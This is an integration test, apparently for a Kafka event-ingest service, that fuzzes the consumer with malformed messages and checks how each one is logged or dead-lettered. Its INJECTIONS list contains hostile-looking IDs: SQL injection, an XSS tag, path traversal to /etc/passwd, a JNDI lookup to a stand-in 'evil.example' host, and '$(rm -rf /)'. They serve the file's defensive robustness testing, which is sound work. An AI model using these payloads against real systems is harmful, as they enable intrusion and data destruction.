"""Hostile input through the real broker and the real ingest: more than 10,000 malformed
messages (bad UTF-8, huge payloads, wrong types, NaN, negative and far-future timestamps,
injection-looking ids, tombstones, random bytes and random JSON) mixed with valid events.

Hypothesis draws the parts (valid payloads, defects, random bytes and JSON) in many small
examples; the stream pairs payloads with defects (each pairing a distinct message whose verdict
is known), is produced in bulk and ingested in one go. Every valid event must be a row with
exactly the normalised values predicted here, every invalid one a dead letter with the
predicted reason and its original bytes, and the consumer must never stop.
"""

from __future__ import annotations

import json
import random
import time
from dataclasses import dataclass, field

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from kafka import KafkaProducer

from streaming.consumer import ConsumerConfig, Ingestor
from streaming.deadletters import read_dead_letters
from streaming.events import MAX_ID_CHARS, MAX_MESSAGE_BYTES, MIN_TS_MS, Rejection, parse_event
from streaming.log import InteractionLog
from streaming.topics import ensure_topics

pytestmark = pytest.mark.integration
NOW_MS = int(time.time() * 1000)
DAY_MS = 24 * 3600 * 1000
INJECTIONS = [
    "'; DROP TABLE interactions; --",
    "1 OR 1=1",
    "<script>alert(1)</script>",
    "../../../../etc/passwd",
    "${jndi:ldap://evil.example/a}",
    "%s%s%s%n",
    "{{7*7}}",
    "$(rm -rf /)",
    "stackrec:m:current",
    "*",
    "\\x00",
]


@dataclass(frozen=True)
class Drawn:
    key: bytes | None
    value: bytes | None
    row: tuple | None = None  # the expected log row when valid
    reason: str | None = None  # the expected rejection reason when invalid
    oracle: bool = False  # random input: the reference parser decides


printable = st.characters(blacklist_categories=("Cc", "Cf", "Cs", "Co", "Cn", "Zl", "Zp", "Zs"))
text_id = st.one_of(
    st.text(printable, min_size=1, max_size=12),
    st.text(printable, min_size=MAX_ID_CHARS - 2, max_size=MAX_ID_CHARS),
    st.sampled_from(INJECTIONS),
)
an_id = st.one_of(st.integers(-(2**70), 2**70), text_id)
keys = st.one_of(st.none(), st.binary(max_size=16))


@st.composite
def valid_payload(draw) -> dict:
    payload = {
        "user_id": draw(an_id),
        "item_id": draw(an_id),
        "ts": draw(st.integers(MIN_TS_MS, NOW_MS)),
    }
    if draw(st.booleans()):
        payload["event_type"] = draw(st.text(max_size=64))
    if draw(st.booleans()):
        payload["weight"] = draw(
            st.one_of(st.floats(-1e300, 1e300, allow_nan=False), st.integers(-(2**60), 2**60))
        )
    return payload


def expected_row(payload: dict) -> tuple:
    weight = payload.get("weight")
    return (
        str(payload["user_id"]),
        str(payload["item_id"]),
        payload["ts"],
        payload.get("event_type"),
        None if weight is None else float(weight),
    )


def dumps(payload: dict, ascii_only: bool = True) -> bytes:
    return json.dumps(payload, ensure_ascii=ascii_only).encode()


DEFECTS = {  # defect -> the reason it must be dead-lettered with
    "missing_field": "missing_field",
    "bad_type_id": "bad_type",
    "bad_type_ts": "bad_type",
    "bad_type_event_type": "bad_type",
    "bad_type_weight": "bad_type",
    "ts_out_of_range": "ts_out_of_range",
    "empty_id": "empty_id",
    "id_too_long": "id_too_long",
    "bad_value_id": "bad_value",
    "bad_value_weight": "bad_value",
    "not_json_truncated": "not_json",
    "not_json_nan": "not_json",
    "not_json_trailing": "not_json",
    "not_object": "not_object",
    "not_utf8": "not_utf8",
    "empty_message": "empty_message",
}
CONTROL = ["\x00", "\x07", "\x1b", "\u200b", "\u2028", "\x7f", "\x85", "\ud800"]


@dataclass(frozen=True)
class Defect:
    """One thing wrong with an otherwise valid event; ``bad`` is the drawn bad part."""

    name: str
    field: str = "user_id"
    bad: object = None


def defect_values(name: str) -> st.SearchStrategy:
    return {
        "missing_field": st.sampled_from(["user_id", "item_id", "ts"]),
        "bad_type_id": st.sampled_from([True, False, 1.5, None, [], {}, [1]]),
        "bad_type_ts": st.one_of(
            st.sampled_from(["1650000000000", True, None, [1]]), st.floats(1e12, 2e12)
        ),
        "bad_type_event_type": st.one_of(st.integers(), st.text(min_size=65, max_size=90)),
        "bad_type_weight": st.sampled_from(["1.0", "heavy", True, [], {"w": 1}]),
        "ts_out_of_range": st.one_of(
            st.integers(-(2**63), MIN_TS_MS - 1), st.integers(NOW_MS + 2 * DAY_MS, 2**63 - 1)
        ),
        "empty_id": st.sampled_from(["", " ", "\t", "  \n "]),
        "id_too_long": st.text(printable, min_size=MAX_ID_CHARS + 1, max_size=300),
        "bad_value_id": st.tuples(st.text(max_size=3), st.sampled_from(CONTROL)),
        "bad_value_weight": st.sampled_from([b"1e400", b"-1e999", b"9" * 400]),
        "not_json_truncated": st.floats(0, 1, exclude_max=True),
        "not_json_nan": st.sampled_from([b"NaN", b"Infinity", b"-Infinity"]),
        "not_json_trailing": st.sampled_from([b" x", b"}", b"{}", b"\x00", b",", b"]"]),
        "not_object": st.one_of(st.lists(st.integers(), max_size=3), st.text(), st.integers()),
        "not_utf8": st.tuples(
            st.floats(0, 1), st.sampled_from([b"\xff", b"\xc3\x28", b"\xed\xa0\x80", b"\x80"])
        ),
        "empty_message": st.none(),
    }[name]


@st.composite
def defects(draw) -> Defect:
    name = draw(st.sampled_from(sorted(DEFECTS)))
    field = draw(st.sampled_from(["user_id", "item_id"]))
    return Defect(name, field, draw(defect_values(name)))


def apply_defect(payload: dict, defect: Defect) -> bytes | None:
    """``payload`` (valid) with ``defect``, as message bytes; its reason is DEFECTS[name]."""
    name, field, bad = defect.name, defect.field, defect.bad
    payload = dict(payload)
    if name == "missing_field":
        del payload[bad]
    elif name in ("bad_type_id", "empty_id", "id_too_long"):
        payload[field] = bad
    elif name == "bad_value_id":
        payload[field] = f"a{bad[0]}{bad[1]}b"  # a control character inside the id
    elif name == "bad_type_ts" or name == "ts_out_of_range":
        payload["ts"] = bad
    elif name == "bad_type_event_type":
        payload["event_type"] = bad
    elif name == "bad_type_weight":
        payload["weight"] = bad
    elif name == "not_object":
        return json.dumps(bad).encode()
    elif name == "empty_message":
        return None
    raw_weight = name in ("bad_value_weight", "not_json_nan")  # tokens json.dumps can't write
    if raw_weight:
        payload.pop("weight", None)
    body = dumps(payload)
    if raw_weight:
        body = body[:-1] + b', "weight": ' + bad + b"}"
    elif name == "not_json_truncated":
        body = body[: int(bad * len(body))]
    elif name == "not_json_trailing":
        body += bad
    elif name == "not_utf8":
        cut = int(bad[0] * len(body))
        body = body[:cut] + bad[1] + body[cut:]
    return body


json_values = st.recursive(
    st.none() | st.booleans() | st.integers() | st.floats() | st.text(max_size=20),
    lambda children: (
        st.lists(children, max_size=4)
        | st.dictionaries(st.sampled_from(["user_id", "item_id", "ts", "weight", "x"]), children)
    ),
    max_leaves=12,
)


random_values = st.one_of(
    st.binary(max_size=120), json_values.map(lambda v: json.dumps(v).encode())
)  # random JSON includes NaN and Infinity floats, which the contract refuses


@dataclass
class Parts:
    payloads: list[dict] = field(default_factory=list)
    defects: list[Defect] = field(default_factory=list)
    randoms: list[bytes] = field(default_factory=list)
    keys: list[bytes | None] = field(default_factory=list)


def draw_parts(examples: int) -> Parts:
    parts = Parts()

    @settings(
        max_examples=examples,
        database=None,
        derandomize=True,
        deadline=None,
        suppress_health_check=list(HealthCheck),
    )
    @given(
        st.lists(valid_payload(), min_size=6, max_size=6),
        st.lists(defects(), min_size=8, max_size=8),
        st.lists(random_values, min_size=6, max_size=6),
        st.lists(keys, min_size=4, max_size=4),
    )
    def collect(payloads, found, randoms, drawn_keys) -> None:
        parts.payloads += payloads
        parts.defects += found
        parts.randoms += randoms
        parts.keys += drawn_keys

    collect()
    return parts


def stream(parts: Parts, valid: int, defective: int, huge: int, seed: int = 0) -> list[Drawn]:
    """Valid events, payload x defect pairings, random inputs and over-size ones, shuffled."""
    rng = random.Random(seed)
    key = lambda: rng.choice(parts.keys)  # noqa: E731
    out = []
    for n in range(valid):
        payload = dict(rng.choice(parts.payloads), ts=NOW_MS - n)  # distinct, still valid
        out.append(Drawn(key(), dumps(payload, rng.random() < 0.5), row=expected_row(payload)))
    for _ in range(defective):
        defect = rng.choice(parts.defects)
        value = apply_defect(rng.choice(parts.payloads), defect)
        tombstone_key = b"u" if value is None else None  # Kafka needs a key or a value
        out.append(Drawn(key() or tombstone_key, value, reason=DEFECTS[defect.name]))
    out += [Drawn(key(), value, oracle=True) for value in parts.randoms]
    for _ in range(huge):  # just over the limit: larger ones cost time and prove nothing more
        pad = "p" * rng.randint(MAX_MESSAGE_BYTES, MAX_MESSAGE_BYTES + 2_000)
        out.append(
            Drawn(key(), dumps({**rng.choice(parts.payloads), "pad": pad}), reason="too_large")
        )
    rng.shuffle(out)
    return out


def test_the_generator_predicts_what_the_reference_parser_decides():
    """The predicted rows and reasons are independent of the code under test; check that
    they agree with ``parse_event`` before trusting either on the broker."""
    for d in stream(draw_parts(examples=30), valid=2_000, defective=4_000, huge=5, seed=1):
        verdict = parse_event(d.value, now_ms=NOW_MS + DAY_MS)
        if d.row is not None:
            got = (verdict.user_id, verdict.item_id, verdict.ts, verdict.event_type, verdict.weight)
            assert got == d.row, d
        elif d.reason is not None:
            assert isinstance(verdict, Rejection) and verdict.reason == d.reason, (d, verdict)


def test_hostile_stream_every_message_logged_or_dead_lettered(stack, tmp_path):
    drawn = stream(draw_parts(examples=60), valid=3_000, defective=10_000, huge=150)
    invalid = [d for d in drawn if d.reason or isinstance(parse_event(d.value), Rejection)]
    assert len(invalid) >= 10_000, len(invalid)
    topic = stack.topic
    ensure_topics(stack.kafka, topic, 4)

    producer = KafkaProducer(
        linger_ms=50, batch_size=1 << 20, max_request_size=4 << 20, **stack.kafka.producer_options()
    )
    futures = [producer.send(topic, key=d.key, value=d.value) for d in drawn]
    producer.flush()
    placed = {}
    for future, d in zip(futures, drawn, strict=True):
        meta = future.get(timeout=30)
        placed[(meta.partition, meta.offset)] = d
    producer.close()

    log = InteractionLog(tmp_path / "log")
    config = ConsumerConfig(
        topic=topic, group_id=f"g-{topic}", max_events=5_000, max_wait_s=3, idle_poll_ms=500
    )
    deadline = time.monotonic() + 120
    with Ingestor(stack.kafka, config, log) as ingestor:
        while sum(log.next_offsets().values()) < len(drawn) and time.monotonic() < deadline:
            ingestor.batch()  # never raises on bad input
    assert sum(log.next_offsets().values()) == len(drawn)

    table = log.read()
    columns = ("partition", "offset", "user_id", "item_id", "ts", "event_type", "weight")
    rows = {
        (p, o): tuple(rest)
        for p, o, *rest in zip(*(table.column(c).to_pylist() for c in columns), strict=True)
    }
    assert len(rows) == table.num_rows
    letters = read_dead_letters(stack.kafka, topic)
    by_source = {(x.source_partition, x.source_offset): x for x in letters}
    assert len(by_source) == len(letters)  # no crash, so no copies
    assert len(rows) + len(letters) == len(drawn)
    for source, d in placed.items():
        if d.row is not None:
            assert rows.get(source) == d.row, (d, by_source.get(source))
            continue
        verdict = parse_event(d.value) if d.oracle else None
        if verdict is not None and not isinstance(verdict, Rejection):
            got = (verdict.user_id, verdict.item_id, verdict.ts, verdict.event_type, verdict.weight)
            assert rows[source] == got
            continue
        reason = d.reason or verdict.reason
        assert (by_source[source].reason, by_source[source].value) == (reason, d.value), d
